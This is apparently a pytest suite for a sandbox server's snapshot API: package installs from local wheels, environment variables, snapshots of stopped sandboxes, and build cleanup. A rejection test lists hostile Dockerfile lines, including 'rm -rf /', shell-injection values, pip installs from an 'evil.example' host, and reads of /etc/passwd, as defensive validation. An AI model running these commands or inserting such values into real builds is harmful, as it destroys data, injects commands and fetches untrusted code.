"""Snapshots through the SDK: Python packages brought by the host's pip, environment variables, files of a sandbox."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import signal
import socket
import time
import zipfile
from pathlib import Path

import pytest
from daytona import (
    CreateSandboxFromImageParams,
    CreateSandboxFromSnapshotParams,
    CreateSnapshotParams,
    DaytonaBadRequestError,
    DaytonaConflictError,
    DaytonaError,
    DaytonaNotFoundError,
    Image,
)
from sandboxd_server import Server

WARM = """
import importlib, os
print("WARM", importlib.import_module("greeting").WORD, os.environ["COLOUR"])
"""


def wheel(folder, name: str, code: str) -> None:
    """A package of one module, for pip to find without a network."""
    info = f"{name}-1.0.dist-info"
    files = {
        f"{name}.py": code,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    rows = []
    with zipfile.ZipFile(folder / f"{name}-1.0-py3-none-any.whl", "w") as archive:
        for path, text in files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
            rows.append(f"{path},sha256={digest},{len(text)}")
            archive.writestr(path, text)
        archive.writestr(f"{info}/RECORD", "\n".join([*rows, f"{info}/RECORD,,"]) + "\n")


@pytest.fixture(scope="module")
def packaged(tmp_path_factory):
    """A server whose pip knows two packages in a folder and no index."""
    folder = tmp_path_factory.mktemp("wheels")
    wheel(folder, "greeting", "WORD = 'hello from a package'\n")
    wheel(folder, "other_one", "WORD = 'other'\n")
    env = {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(folder)}
    script = folder / "warm.py"
    script.write_text(WARM)
    started = Server(tmp_path_factory.mktemp("packaged") / "data", "--warm-script", str(script), env=env)
    yield started
    started.stop()


@pytest.fixture(scope="module")
def sdk(packaged):
    return packaged.sdk()


@contextlib.contextmanager
def sandbox_of(sdk, params):
    made = sdk.create(params)
    try:
        yield made
    finally:
        made.delete()


def test_packages_and_environment_of_a_snapshot(sdk):
    log = []
    image = Image.debian_slim("3.12").pip_install("greeting", "other-one>=1.0").env({"COLOUR": "dark blue"})
    snapshot = sdk.snapshot.create(CreateSnapshotParams(name="greetings", image=image), on_logs=log.append)
    assert snapshot.state.value == "active"
    assert "greeting" in "".join(log) and "passed over" in "".join(log)
    with sandbox_of(sdk, CreateSandboxFromSnapshotParams(snapshot="greetings")) as sandbox:
        assert sandbox.snapshot == "greetings"
        code = "import greeting, other_one, os; print(greeting.WORD, other_one.WORD, os.environ['COLOUR'])"
        assert sandbox.process.code_run(code).result == "hello from a package other dark blue\n"
        output = bytearray()
        script = {"SANDBOXD_WARM_SCRIPT": hashlib.sha256(WARM.encode()).hexdigest()}
        terminal = sandbox.process.create_pty_session("warm", envs=script)
        terminal.wait(on_data=output.extend)
        assert output == b"WARM hello from a package dark blue\n", "a warm script sees them too"
        assert sandbox.process.exec("touch /opt/snapshot/x").exit_code != 0, "read-only"
        with pytest.raises(DaytonaConflictError, match="used by"):
            sdk.snapshot.delete(snapshot)
        sandbox.stop()
        sandbox.start()
        assert sandbox.process.exec("python3 -c 'import greeting'").exit_code == 0
    with sandbox_of(sdk, CreateSandboxFromSnapshotParams()) as base:
        assert base.process.exec("python3 -c 'import greeting'").exit_code != 0, "the base does not have them"
    assert [s.name for s in sdk.snapshot.list().items] == ["greetings"]
    sdk.snapshot.delete(snapshot)
    with pytest.raises(DaytonaNotFoundError):
        sdk.snapshot.get("greetings")


def test_a_sandbox_from_an_image(sdk):
    params = CreateSandboxFromImageParams(image=Image.base("python:3.11").pip_install("greeting"), ephemeral=True)
    for _ in range(2):
        with sandbox_of(sdk, params) as sandbox:
            assert sandbox.process.code_run("import greeting; print(greeting.WORD)").result.startswith("hello")
    assert len([s for s in sdk.snapshot.list().items if s.name.startswith("image-")]) == 1, "built once"
    with sandbox_of(sdk, CreateSandboxFromImageParams(image="python:3.12", ephemeral=True)) as plain:
        assert plain.process.exec("echo yes").result == "yes\n"


def test_a_build_that_fails(sdk):
    with pytest.raises(DaytonaError, match="no-such-package"):
        sdk.snapshot.create(
            CreateSnapshotParams(name="bad", image=Image.base("python:3.11").pip_install("no-such-package"))
        )
    assert sdk.snapshot.get("bad").state.value == "build_failed"
    with pytest.raises(DaytonaBadRequestError, match="build_failed"):
        sdk.create(CreateSandboxFromSnapshotParams(snapshot="bad"))
    sdk.snapshot.delete(sdk.snapshot.get("bad"))


@pytest.mark.parametrize(
    "lines",
    [
        "FROM ubuntu:22.04",
        "RUN pip install greeting",
        "FROM python:3.11\nRUN rm -rf /",
        "FROM python:3.11\nRUN pip install greeting; touch /pwned",
        "FROM python:3.11\nRUN pip install $(id)",
        "FROM python:3.11\nRUN pip install --index-url http://evil.example x",
        "FROM python:3.11\nRUN pip install -r /etc/passwd",
        "FROM python:3.11\nRUN pip install git+https://evil.example/x",
        "FROM python:3.11\nRUN pip install /etc",
        "FROM python:3.11\nRUN pip install 'x @ file:///etc'",
        "FROM python:3.11\nRUN pip install 'unclosed",
        "FROM python:3.11\nCOPY . /x",
        "FROM python:3.11\nENV A=$HOME",
        "FROM python:3.11\nFROM python:3.12",
        "",
    ],
)
def test_dockerfiles_that_cannot_be_had(packaged, lines):
    with packaged.http() as http:
        before = http.get("/api/snapshots").json()["total"]
        answer = http.post("/api/snapshots", json={"name": "x", "buildInfo": {"dockerfileContent": lines}})
        assert answer.status_code == 400, answer.text
        assert http.get("/api/snapshots").json()["total"] == before


def test_files_of_a_stopped_sandbox(sdk, packaged):
    with sandbox_of(sdk, CreateSandboxFromSnapshotParams()) as sandbox, packaged.http() as http:
        sandbox.fs.upload_file(b"kept", "deep/er/file.txt")
        sandbox.process.exec("ln -s /etc/passwd link; mkfifo fifo; chmod 700 deep; printf x > run; chmod 755 run")
        url = f"/api/sandbox/{sandbox.id}/snapshot"
        assert http.post(url, json={"name": "files"}).status_code == 400, "still running"
        sandbox.stop()
        assert http.post(url, json={"name": "files"}).status_code == 200
        assert http.post(url, json={"name": "files"}).status_code == 409
    assert sdk.snapshot.list(source_sandbox_id=sandbox.id).items[0].name == "files"
    with sandbox_of(sdk, CreateSandboxFromSnapshotParams(snapshot="files")) as copy:
        assert copy.fs.download_file("deep/er/file.txt") == b"kept"
        told = copy.process.exec("readlink link; stat -c %a run; ls fifo 2>&1; touch deep/mine && echo writable").result
        assert told.splitlines()[0::3] == ["/etc/passwd", "writable"]
        assert "755" in told


def test_active_and_not(sdk, packaged):
    sdk.snapshot.create(CreateSnapshotParams(name="toggled", image="python:3.11"))
    with packaged.http() as http:
        assert http.post("/api/snapshots/toggled/deactivate").status_code == 204
    with pytest.raises(DaytonaBadRequestError, match="inactive"):
        sdk.create(CreateSandboxFromSnapshotParams(snapshot="toggled"))
    sdk.snapshot.activate(sdk.snapshot.get("toggled"))
    with sandbox_of(sdk, CreateSandboxFromSnapshotParams(snapshot="toggled")) as sandbox:
        assert sandbox.process.exec("true").exit_code == 0


def builders(data) -> list[int]:
    """The processes that install packages into a data folder."""
    found = []
    for folder in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if str(data / "snapshots").encode() in (folder / "cmdline").read_bytes():
                found.append(int(folder.name))
    return found


def within(seconds: float, check) -> bool:
    end = time.monotonic() + seconds
    while not (good := check()) and time.monotonic() < end:
        time.sleep(0.1)
    return good


def test_a_build_dies_with_the_server(tmp_path):
    with socket.create_server(("127.0.0.1", 0)) as silent:  # an index that never answers
        env = {"PIP_INDEX_URL": f"http://127.0.0.1:{silent.getsockname()[1]}/simple", "PIP_NO_INDEX": ""}
        server = Server(tmp_path / "data", env={**env, "PIP_TIMEOUT": "600"})
        build = {"name": "slow", "buildInfo": {"dockerfileContent": "FROM python:3.11\nRUN pip install slow"}}
        with server.http() as http:
            assert http.post("/api/snapshots", json=build).json()["state"] == "building"
        assert within(30, lambda: builders(server.data))
        server.stop(signal.SIGKILL)
        assert within(10, lambda: not builders(server.data))
    again = Server(tmp_path / "data")
    with again.http() as http:
        left = http.get("/api/snapshots/slow").json()
        assert left["state"] == "build_failed" and "server ended" in left["errorReason"]
        assert http.delete("/api/snapshots/slow").status_code == 200
    again.stop()
    assert list((tmp_path / "data" / "snapshots").iterdir()) == []
